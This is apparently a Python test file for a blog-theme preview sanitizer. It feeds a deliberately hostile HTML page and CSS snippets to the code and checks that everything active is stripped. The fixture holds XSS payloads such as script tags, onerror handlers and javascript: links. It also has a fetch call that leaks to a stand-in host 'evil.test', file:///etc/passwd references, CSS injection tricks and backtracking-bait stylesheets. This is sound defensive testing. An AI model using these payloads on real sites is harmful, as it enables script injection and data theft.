"""A hostile blog page made into a preview template: nothing active and no address of
another origin survives, the post's place, title and date are marked, and the theme's own
text can never act as one of the template's placeholders."""

from __future__ import annotations

import re

import pytest

from smugdesk.core.theme_template import (
    TemplateError,
    fill,
    make_template,
    rewrite_css,
)

BLOG = "http://blog.test/"


def local(url: str, kind: str) -> str | None:
    """Stores anything on the blog's origin (as theme_capture does), nothing else."""
    if not url.startswith(BLOG):
        return None
    name = re.sub(r"[^a-z0-9]+", "-", url[len(BLOG) :].lower()).strip("-") or "x"
    return f"/.smugdesk-theme/files/{name}"


HOSTILE = """<!doctype html>
<html lang="en-GB" class="no-js"><head>
<title>Old title</title>
<meta http-equiv="refresh" content="0; url=http://evil.test/">
<base href="http://evil.test/">
<script src="/wp-includes/js/jquery.js"></script>
<script>fetch('http://evil.test/leak')</script>
<link rel="stylesheet" href="/theme/style.css?ver=1">
<link rel="stylesheet" href="http://evil.test/steal.css">
<link rel="preconnect" href="http://evil.test/">
<link rel="prefetch" href="/next">
<style>body { background: url(http://evil.test/bg.png) } .a { background: url(/ok.png) }</style>
</head>
<body onload="steal()" class="home blog">
<header class="site-header" onclick="x()">
 <a href="javascript:alert(1)" class="logo"><img src="/logo.png" onerror="steal()"
    srcset="/logo-2x.png 2x, http://evil.test/logo-3x.png 3x" style="background:url('file:///etc/passwd')"></a>
 <nav><a href="http://blog.test/about/" target="_blank" ping="http://evil.test/ping">About</a></nav>
 <form action="http://evil.test/search"><input name="q"><button>Go</button></form>
 <iframe src="http://evil.test/frame"></iframe><object data="http://evil.test/o.swf"></object>
 <embed src="http://evil.test/e.swf"><noscript><img src="http://evil.test/pixel.gif"></noscript>
 <svg viewBox="0 0 10 10"><script>alert(1)</script><a href="javascript:alert(2)">
 <path d="M0 0"/></a>
 <use href="http://evil.test/sprite.svg#icon"/><animate attributeName="href" to="javascript:x"/>
 <foreignObject><iframe src="http://evil.test/f2"></iframe></foreignObject></svg>
</header>
<main><article>
<h1 class="wp-block-post-title"><a href="/hello/">Hello {{css}} world</a></h1>
<div class="wp-block-post-date"><time datetime="2020-01-01">1 January 2020</time></div>
<div id="sd-body" class="entry-content wp-block-post-content is-layout-constrained">
<p>The old post text {{body}}</p><script>alert(3)</script></div>
</article></main>
<footer><p>Theme text with {{title}} braces</p>
<template><img src=x onerror=alert(4)></template></footer>
</body></html>"""


@pytest.fixture
def template() -> str:
    return make_template(HOSTILE, BLOG + "hello/", local)


def test_nothing_active_survives(template):
    lowered = template.lower()
    for word in ("<script", "<iframe", "<object", "<embed", "<form", "<input", "<button",
                 "<base", "http-equiv", "<noscript", "<template", "foreignobject", "<animate",
                 "javascript:", " onload", " onerror", " onclick", "ping=", "target="):  # fmt: skip
        assert word not in lowered, word


def test_no_address_of_another_origin_or_scheme_is_left(template):
    assert "evil.test" not in template
    assert "file:" not in template
    # Every address left is a stored copy in the theme's folder.
    for url in re.findall(r'(?:href|src|srcset)="([^"]*)"', template):
        assert url.startswith(("/.smugdesk-theme/files/", "#")), url
    for url in re.findall(r"url\(([^)]*)\)", template):
        assert url.startswith('"/.smugdesk-theme/files/'), url


def test_links_in_the_chrome_are_inert(template):
    assert "<a>About</a>" in template
    assert not re.search(r"<a [^>]*href", template)


def test_the_posts_place_title_and_date_are_marked(template):
    assert '<h1 class="wp-block-post-title" id="sd-title">{{title}}</h1>' in template
    assert '<time id="sd-date" datetime="{{date_iso}}">{{date_text}}</time>' in template
    # The content element itself is the body (so the theme's "> *" rules still apply),
    # emptied of the old post, and the page's own id="sd-body" elsewhere is gone.
    assert re.search(
        r'<div class="entry-content wp-block-post-content is-layout-constrained" id="sd-body">'
        r"</div>",
        template,
    )
    assert template.count('id="sd-body"') == 1
    assert "old post text" not in template


def test_the_themes_braces_are_never_placeholders(template):
    page = fill(template, title="T", date_text="D", date_iso="2026-11-30", extra_css="p{}")
    assert "Theme text with &#123;&#123;title}} braces" in page
    assert "{{" not in page


def test_fill_escapes_the_title_and_keeps_the_writers_css_inside_its_element(template):
    page = fill(template, title="<b>x</b>", date_text="", date_iso="", extra_css="</style><x>")
    assert "&lt;b&gt;x&lt;/b&gt;" in page
    assert "</style><x>" not in page


def test_stylesheets_and_images_are_the_stored_copies(template):
    assert '<link rel="stylesheet" href="/.smugdesk-theme/files/theme-style-css-ver-1">' in template
    assert 'src="/.smugdesk-theme/files/logo-png"' in template
    assert 'srcset="/.smugdesk-theme/files/logo-2x-png 2x"' in template
    assert 'url("/.smugdesk-theme/files/ok-png")' in template


@pytest.mark.parametrize(
    ("css", "kept", "gone"),
    [
        ("a{background:url(http://evil.test/x.png)}", "none", "evil"),
        ("a{background:url('file:///etc/passwd')}", "none", "file:"),
        ("a{background:url(javascript:alert(1))}", "", "javascript"),
        ("@import 'http://evil.test/a.css'; a{color:red}", "color:red", "evil"),
        (
            '@import"/theme/b.css";',
            '@import url("/.smugdesk-theme/files/theme-b-css");',
            '@import"',
        ),
        ("a{background:\\75 rl(http://evil.test/e.png)}", "", "evil"),
        ("a{background:url(http://evil.test/unclosed", "", "evil.test/unclosed)"),
        ("a{background:image-set('http://evil.test/1.png' 1x)}", "", "evil"),
        ("a{width:expression(alert(1));color:blue}", "color:blue", "expression"),
        ("a{-moz-binding:url(/x.xml#b)}", "", "binding"),
        ("a{content:'\\201C'}", "content:'\\201C'", "\x00"),
        ("a{mask:url(#m)}", 'url("#m")', "evil"),
    ],
)
def test_css_keeps_no_way_out(css, kept, gone):
    out = rewrite_css(css, BLOG, local)
    assert kept in out
    assert gone not in out
    assert not re.search(r"url\((?![\"][/#])", out)


@pytest.mark.parametrize(
    "nasty",
    [
        "a{b:" + "url(" * 200_000 + "x" * 500_000 + "expression(" + "y" * 500_000,
        '"' * 300_000 + 'url("' * 100_000,
        "@import " * 200_000,
        "image-set(" * 100_000 + "(" * 100_000,
        "\\75" * 300_000,
    ],
    ids=["unclosed-urls", "unclosed-strings", "imports", "image-sets", "escapes"],
)
def test_a_huge_hostile_sheet_is_rewritten_in_linear_time(nasty):
    """About 2 MB (the cap on one stylesheet) of what makes patterns backtrack: seconds
    at most, not hours."""
    import time

    started = time.monotonic()
    out = rewrite_css(nasty, BLOG, lambda url, kind: None)
    assert time.monotonic() - started < 5
    assert "expression" not in out
    assert not re.search(r"url\((?![\"][/#])", out)


def test_a_page_with_no_place_for_a_post_is_refused():
    with pytest.raises(TemplateError):
        make_template("<html><body><div>nothing</div></body></html>", BLOG, local)


def test_the_marker_finds_the_content_of_a_theme_with_unknown_classes():
    page = (
        "<html><body><div class='sidebar'>x</div><div class='prose'><p>Intro</p>"
        "<p>MARKER-123 text</p></div></body></html>"
    )
    template = make_template(page, BLOG, local, marker="MARKER-123")
    assert '<div class="prose" id="sd-body"></div>' in template
    # Without title or date in the page, hidden ones are made for the preview to fill.
    assert 'id="sd-title">{{title}}' in template and 'id="sd-date"' in template


def test_only_web_addresses_reach_the_resolver():
    """Even a resolver that would store anything never sees file:, javascript: or data:."""
    seen: list[str] = []

    def anything(url: str, kind: str) -> str:
        seen.append(url)
        return "/.smugdesk-theme/files/x"

    css = (
        "a{background:url(file:///etc/passwd)} b{background:url(javascript:alert(1))}"
        " c{background:url(data:image/png;base64,AAAA)} d{background:url(//evil.test/x)}"
    )
    rewrite_css(css, "file:///home/writer/", anything)
    assert seen == []
    make_template(
        '<html><body><img src="file:///etc/passwd"><article>x</article></body></html>',
        BLOG,
        anything,
    )
    assert seen == []


def test_the_head_is_plain_and_single_so_the_policy_goes_first():
    """The sandbox puts its Content-Security-Policy right after the first literal <head>:
    a head with attributes, a second <head>, <html> or <body> inside the page, or no head at
    all cannot move it below anything of the theme's."""
    page = (
        '<html><head class="x" onload="y()"><link rel="stylesheet" href="/a.css"></head>'
        "<body><head><style>p{}</style></head><html><body class=z><article>x</article>"
        "</body></html></body></html>"
    )
    template = make_template(page, BLOG, local)
    assert template.count("<head") == 1
    assert template.index("<head>") < template.index("<link")
    assert template.count("<body") == 1 and template.count("<html") == 1
    bare = make_template("<p>before</p><article>x</article>", BLOG, local)
    assert bare.index("<head>") < bare.index("<body>") < bare.index("before")


def test_any_after_any_becomes_not_first_child_with_the_same_weight():
    """ "> * + *" (WordPress's block spacing) made Chromium restyle every block of a long
    post on each patch; ":where(:not(:first-child))" matches the same elements with the
    same specificity."""
    css = "body .is-layout-flow > * + * { margin-block-start: 1.5rem } .a + .b { x: 1 }"
    out = rewrite_css(css, BLOG, local)
    assert "body .is-layout-flow > *:where(:not(:first-child)) {" in out
    assert ".a + .b" in out
